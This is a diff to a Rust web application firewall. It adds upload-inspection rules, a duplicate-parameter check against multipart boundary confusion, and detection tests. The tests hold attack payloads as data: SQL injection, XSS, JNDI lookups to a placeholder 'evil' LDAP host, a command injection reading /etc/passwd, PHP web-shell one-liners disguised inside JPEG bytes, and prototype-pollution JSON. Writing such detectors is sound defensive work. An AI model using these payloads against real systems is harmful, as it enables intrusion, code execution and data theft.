@@ -367,6 +367,10 @@ pub const CODE_RULES: &[(&str, Category)] = &[
     ("protocol-long-accept-encoding", Category::Protocol),
     ("protocol-legacy-cookie", Category::Protocol),
     ("protocol-multipart-name", Category::Protocol),
+    ("protocol-duplicate-parameter", Category::Protocol),
+    ("php-code-in-upload", Category::Php),
+    ("xss-markup-in-upload", Category::Xss),
+    ("java-jndi-in-upload", Category::Java),
 ];
 
 /// The family of a rule id, or `None` if no rule has that id.
@@ -907,6 +911,9 @@ impl Engine {
             if lower.matches("charset").count() > 1 {
                 return on.finding("protocol-duplicate-charset", p, Part::Header, "content-type", ct);
             }
+            if repeated_parameter(&lower) {
+                return on.finding("protocol-duplicate-parameter", p, Part::Header, "content-type", ct);
+            }
             if let Some(cs) = charset(&lower)
                 && !allowed_charset(cs)
             {
@@ -948,6 +955,28 @@ impl Engine {
         }
         None
     }
+}
+
+/// Whether a (lower-cased, well-formed) media type names a parameter
+/// twice, quoted or not: parsers disagree on which one counts (the WAF's
+/// multipart reader took the first `boundary=`, Flask and `cgi` the last),
+/// so the app would read parts the WAF never saw.
+fn repeated_parameter(ct: &str) -> bool {
+    let mut seen: Vec<&str> = Vec::new();
+    let mut rest = ct.split_once(';').map_or("", |(_, r)| r);
+    while let Some((name, after)) = rest.split_once('=') {
+        let name = name.trim_matches(|c: char| c == ';' || c.is_whitespace());
+        if seen.contains(&name) {
+            return true;
+        }
+        seen.push(name);
+        let after = after.trim_start();
+        rest = match after.strip_prefix('"') {
+            Some(quoted) => quoted.split_once('"').map_or("", |(_, r)| r),
+            None => after.split_once(';').map_or("", |(_, r)| r),
+        };
+    }
+    false
 }
 
 /// What the protocol checks read of the headers, found in one pass over
@@ -1746,6 +1775,216 @@ mod tests {
         let body = b"<?xml version=\"1.0\"?><r><a p=\"x&amp;&amp;cat /etc/passwd\"/></r>";
         let f = engine.inspect(&subject(&Method::POST, "/", &headers, body), &Switches::default());
         assert!(f.is_some());
+    }
+
+    /// One multipart part (`head` lines, then `content`) on boundary `a`,
+    /// with CRLF or bare LF line ends.
+    fn one_part(head: &[&str], content: &[u8], crlf: bool) -> Vec<u8> {
+        let nl: &[u8] = if crlf { b"\r\n" } else { b"\n" };
+        let mut out = b"--a".to_vec();
+        out.extend_from_slice(nl);
+        for line in head {
+            out.extend_from_slice(line.as_bytes());
+            out.extend_from_slice(nl);
+        }
+        out.extend_from_slice(nl);
+        out.extend_from_slice(content);
+        out.extend_from_slice(nl);
+        out.extend_from_slice(b"--a--");
+        out.extend_from_slice(nl);
+        out
+    }
+
+    const MULTIPART_A: &str = "multipart/form-data; boundary=a";
+
+    /// A part without `filename` is a form field to PHP, Flask and cgi
+    /// whatever its declared type: it is inspected as one.
+    #[test]
+    fn typed_multipart_fields_are_inspected_as_fields() {
+        let payloads: [&[u8]; 5] = [
+            b"' UNION SELECT password FROM users--",
+            b"<script>alert(1)</script>",
+            b"${jndi:ldap://evil/a}",
+            b"127.0.0.1; cat /etc/passwd",
+            b"\xff\xd8\xff\xe0 ' UNION SELECT password FROM users--",
+        ];
+        for ty in [
+            "image/jpeg",
+            "IMAGE/JPEG",
+            "Image/Jpeg",
+            "application/octet-stream",
+            "application/pdf",
+            "foo",
+            "application/x-www-form-urlencoded",
+            "multipart/mixed",
+        ] {
+            for header in ["Content-Type", "content-type", "CONTENT-TYPE"] {
+                for crlf in [true, false] {
+                    for payload in payloads {
+                        let ct = format!("{header}: {ty}");
+                        let part = one_part(&["Content-Disposition: form-data; name=\"q\"", &ct], payload, crlf);
+                        assert!(
+                            post_as(MULTIPART_A, &part).is_some(),
+                            "{ct} {crlf} {}",
+                            String::from_utf8_lossy(payload)
+                        );
+                    }
+                }
+            }
+        }
+        // Benign look-alikes: plain words in a typed field, and a file
+        // whose bytes are a picture's.
+        for ty in ["image/jpeg", "application/octet-stream", "foo"] {
+            let ct = format!("Content-Type: {ty}");
+            let part = one_part(
+                &["Content-Disposition: form-data; name=\"q\"", &ct],
+                b"hello world",
+                true,
+            );
+            assert_eq!(post_as(MULTIPART_A, &part), None, "{ty}");
+        }
+    }
+
+    /// Files in a type the rules do not read are looked at for the code
+    /// that acts on a file's contents whatever its type.
+    #[test]
+    fn code_in_files_of_any_type_is_found() {
+        let jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00C\x00";
+        let with_magic = |code: &[u8]| [&jpeg[..], code, b"\xff\xd9"].concat();
+        let cases: Vec<(Vec<u8>, &str)> = vec![
+            (
+                b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(),
+                "xss-markup-in-upload",
+            ),
+            (b"<svg/onload=alert(1)>".to_vec(), "xss-markup-in-upload"),
+            (b"<SVG ONLOAD = alert(1)>".to_vec(), "xss-markup-in-upload"),
+            (
+                b"<svg><animate onbegin=alert(1) attributeName=x/></svg>".to_vec(),
+                "xss-markup-in-upload",
+            ),
+            (b"<svg><ScRiPt>alert(1)</script></svg>".to_vec(), "xss-markup-in-upload"),
+            (
+                b"<a href=\"JavaScript:alert(1)\">x</a>".to_vec(),
+                "xss-markup-in-upload",
+            ),
+            (with_magic(b"<?php system($_GET['c']); ?>"), "php-code-in-upload"),
+            (with_magic(b"<?PhP eval($_POST[1]);"), "php-code-in-upload"),
+            (b"<?= `id` ?>".to_vec(), "php-code-in-upload"),
+            (b"${jndi:ldap://evil/a}".to_vec(), "java-jndi-in-upload"),
+            (with_magic(b"${JNDI:ldap://evil/a}"), "java-jndi-in-upload"),
+            (b"${${lower:j}ndi:ldap://evil/a}".to_vec(), "java-jndi-in-upload"),
+        ];
+        for ty in [
+            "application/pdf",
+            "image/jpeg",
+            "IMAGE/PNG",
+            "application/octet-stream",
+            "foo",
+        ] {
+            for (content, rule) in &cases {
+                for crlf in [true, false] {
+                    let ct = format!("Content-Type: {ty}");
+                    let head = ["Content-Disposition: form-data; name=\"f\"; filename=\"x.svg\"", &ct];
+                    let part = one_part(&head, content, crlf);
+                    assert_eq!(
+                        post_as(MULTIPART_A, &part),
+                        Some(*rule),
+                        "{ty} {}",
+                        String::from_utf8_lossy(content)
+                    );
+                }
+            }
+        }
+        // Benign files: a picture, an SVG that runs nothing, a text file
+        // that mentions handlers, and a short PHP opener in bytes that
+        // are not text (compressed data spells one by chance).
+        for content in [
+            with_magic(b"\x12\x34 ordinary pixels \x00\x7f"),
+            with_magic(b"<?=\x8f\x01"),
+            b"<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><rect width=\"10\" height=\"10\" fill=\"red\"/></svg>".to_vec(),
+            b"notes: the onload event fires once; see the docs".to_vec(),
+        ] {
+            let head = [
+                "Content-Disposition: form-data; name=\"f\"; filename=\"x.svg\"",
+                "Content-Type: application/octet-stream",
+            ];
+            assert_eq!(
+                post_as(MULTIPART_A, &one_part(&head, &content, true)),
+                None,
+                "{}",
+                String::from_utf8_lossy(&content)
+            );
+        }
+    }
+
+    /// A parameter named twice: parsers disagree on which one counts.
+    #[test]
+    fn repeated_content_type_parameters_are_refused() {
+        let part = one_part(
+            &["Content-Disposition: form-data; name=\"q\""],
+            b"' UNION SELECT password FROM users--",
+            true,
+        );
+        let benign = one_part(&["Content-Disposition: form-data; name=\"q\""], b"hello", true);
+        for ct in [
+            "multipart/form-data; boundary=b; boundary=a",
+            "multipart/form-data; boundary=b;boundary=a",
+            "multipart/form-data; boundary=\"b\"; boundary=a",
+            "multipart/form-data; boundary=b; boundary=\"a\"",
+            "multipart/form-data;  boundary=b ;  BOUNDARY=a",
+            "multipart/form-data; Boundary=a; boundary=a",
+            "multipart/form-data; boundary=a; x=1; X=2",
+            "text/plain; format=flowed; FORMAT=fixed",
+        ] {
+            assert_eq!(post_as(ct, &part), Some("protocol-duplicate-parameter"), "{ct}");
+            assert_eq!(post_as(ct, &benign), Some("protocol-duplicate-parameter"), "{ct}");
+        }
+        for ct in [
+            "multipart/form-data; boundary=a",
+            "multipart/form-data; boundary=\"a\"; charset=utf-8",
+        ] {
+            assert_eq!(post_as(ct, &benign), None, "{ct}");
+        }
+        assert_eq!(post_as("text/plain; format=flowed; delsp=yes", b"hello"), None);
+        assert!(!repeated_parameter("multipart/form-data; boundary=\"x;boundary=y\""));
+        assert!(!repeated_parameter("multipart/form-data; boundary=\"x\"; b=1"));
+        assert!(repeated_parameter("multipart/form-data; boundary=\"x;y\"; boundary=z"));
+    }
+
+    /// `constructor` holding a `prototype` is lodash-merge pollution at
+    /// any depth and in any spelling JSON allows.
+    #[test]
+    fn constructor_prototype_in_json_is_pollution() {
+        for doc in [
+            r#"{"constructor":{"prototype":{"isAdmin":true}}}"#,
+            r#"{"user":{"constructor":{"prototype":{"isAdmin":true}}}}"#,
+            r#"[{"a":[{"constructor":{"prototype":{"x":1}}}]}]"#,
+            r#"{"\u0063onstructor":{"\u0070rototype":{"isAdmin":true}}}"#,
+            r#"{ "constructor" : { "prototype" : { } } }"#,
+            r#"{"Constructor":{"PROTOTYPE":{"isAdmin":1}}}"#,
+            r#"{"constructor":{"name":"x","prototype":"y"}}"#,
+        ] {
+            for ct in [
+                "application/json",
+                "application/vnd.api+json",
+                "application/json; charset=utf-8",
+            ] {
+                assert_eq!(
+                    post_as(ct, doc.as_bytes()),
+                    Some("nodejs-proto-pollution"),
+                    "{ct} {doc}"
+                );
+            }
+        }
+        for doc in [
+            r#"{"constructor":"Acme Ltd"}"#,
+            r#"{"prototype":{"name":"v2","steps":3}}"#,
+            r#"{"constructor":{"name":"Acme Ltd","country":"NL"}}"#,
+            r#"{"company":{"constructor":"Acme","prototype":{"a":1}}}"#,
+            r#"{"constructor":["prototype"]}"#,
+        ] {
+            assert_eq!(post_as("application/json", doc.as_bytes()), None, "{doc}");
+        }
     }
 
     /// `1' UNION SELECT username,password FROM users--` as the form field
